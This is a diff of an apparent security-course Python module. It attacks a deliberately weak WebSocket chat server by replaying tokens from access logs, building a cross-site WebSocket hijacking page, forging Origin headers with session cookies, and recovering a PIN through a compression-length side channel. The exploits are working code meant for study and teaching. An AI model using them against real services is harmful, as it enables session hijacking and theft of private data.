@@ -10,14 +10,16 @@ import re
 import time
 import zlib
 from contextlib import AsyncExitStack, suppress
+from pathlib import Path
 
 from websockets.asyncio.client import ClientConnection, connect
 from websockets.exceptions import ConnectionClosed, InvalidHandshake
 
 from course_lib.network import Direction, Link
-from course_lib.security.weak import PEOPLE, WeakChat
+from course_lib.security.weak import COOKIE, PEOPLE, WeakChat
 
 _BLOCK = 100_000
+_HIJACK = Path(__file__).with_name("hijack.html")
 
 
 def dial(chat: WeakChat, url: str = "", **options: object) -> connect:
@@ -77,47 +79,31 @@ async def impersonate(chat: WeakChat, user: str = "ann") -> str:
     return ""
 
 
-async def replay_from_log(chat: WeakChat) -> str:
-    """Take a token out of the server's access log and come in with it; gives the owner's notes."""
-    for line in list(chat.log):
-        if not (found := re.search(r"token=(\S+)", line)):
-            continue
-        with suppress(InvalidHandshake, ConnectionClosed):
-            async with dial(chat, f"{chat.url}?token={found[1]}") as connection:
-                return await _notes(connection)
-    return ""
+async def replay_from_log(chat: WeakChat, parameter: str = "token") -> str:
+    """Come in with what stands in the URLs of the server's access log; gives the owner's notes.
 
-
-async def replay_ticket(chat: WeakChat) -> str:
-    """The same with a single-use ticket: it stands in the log, too, but was used by then."""
-    for line in list(chat.log):
-        if not (found := re.search(r"ticket=(\S+)", line)):
-            continue
-        with suppress(InvalidHandshake, ConnectionClosed):
-            async with dial(chat, f"{chat.url}?ticket={found[1]}") as connection:
-                return await _notes(connection)
+    A single-use "ticket" stands there, too, but was used by then.
+    """
+    for found in re.findall(rf"{parameter}=(\S+)", "\n".join(chat.log)):
+        if notes := await _take(chat, f"{chat.url}?{parameter}={found}"):
+            return notes
     return ""
 
 
 def hijacking_page(chat: WeakChat) -> str:
     """A page for another origin: in a browser that is logged in, it shows the owner's notes."""
-    return f"""<!doctype html><title>Free cats</title><p id="taken">nothing</p><script>
-const taken = document.querySelector("#taken");
-const socket = new WebSocket({json.dumps(chat.url)});
-socket.onopen = () => socket.send('{{"type": "notes"}}');
-socket.onmessage = ({{data}}) => {{
-  const said = JSON.parse(data);
-  if (said.type === "notes") taken.textContent = said.notes;
-}};
-socket.onclose = ({{code}}) => {{ if (code === 1006) taken.textContent = "refused"; }};
-</script>"""
+    return _HIJACK.read_text(encoding="utf-8").replace("URL", json.dumps(chat.url))
 
 
 async def forge_origin(chat: WeakChat, origin: str, user: str = "ann") -> str:
     """What a page of that origin takes: somebody's notes, with the cookie that a browser adds."""
-    cookie = {"Cookie": f"weak_chat={chat.session(user)}"}
+    cookie = {"Cookie": f"{COOKIE}={chat.session(user)}"}
+    return await _take(chat, origin=origin, additional_headers=cookie)
+
+
+async def _take(chat: WeakChat, url: str = "", **options: object) -> str:
     with suppress(InvalidHandshake, ConnectionClosed):
-        async with dial(chat, origin=origin, additional_headers=cookie) as connection:
+        async with dial(chat, url, **options) as connection:
             return await _notes(connection)
     return ""
 
@@ -167,22 +153,22 @@ async def read_lengths(chat: WeakChat, user: str = "ann", digits: int = 6) -> st
     """Find out somebody's PIN from nothing but how long the answers on the line are.
 
     The attacker chooses what the victim's page looks for, and sees the encrypted line. A guess that
-    repeats what stands in the same message is compressed away: the answer is shorter.
+    repeats what stands in the same message is compressed away: the answer is shorter. Where the last
+    digit repeats others of the PIN, two guesses may be equally short, and it gives nothing.
     """
     async with Link("127.0.0.1", chat.port, capture=True) as link:
         url = chat.url.replace(f":{chat.port}/", f":{link.port}/")
         async with dial(chat, url, compression="deflate") as victim:
             await log_in(victim, user)
-            known = "pin="
+            known = ["pin="]
             for _ in range(digits):
-                sizes = {}
-                for digit in "0123456789":
-                    sizes[digit] = await _size(victim, link, known + digit)
-                shortest = [each for each in sizes if sizes[each] == min(sizes.values())]
-                if len(shortest) > 1:
+                guesses = [each + digit for each in known for digit in "0123456789"]
+                sizes = {each: await _size(victim, link, each) for each in guesses}
+                # Two may be as short as each other: the digits after them show which is right.
+                known = [each for each in guesses if sizes[each] == min(sizes.values())]
+                if len(known) > 5:
                     return ""  # all are as long: there is nothing to see
-                known += shortest[0]
-    return known
+    return known[0] if len(known) == 1 else ""
 
 
 async def _size(victim: ClientConnection, link: Link, guess: str) -> int:
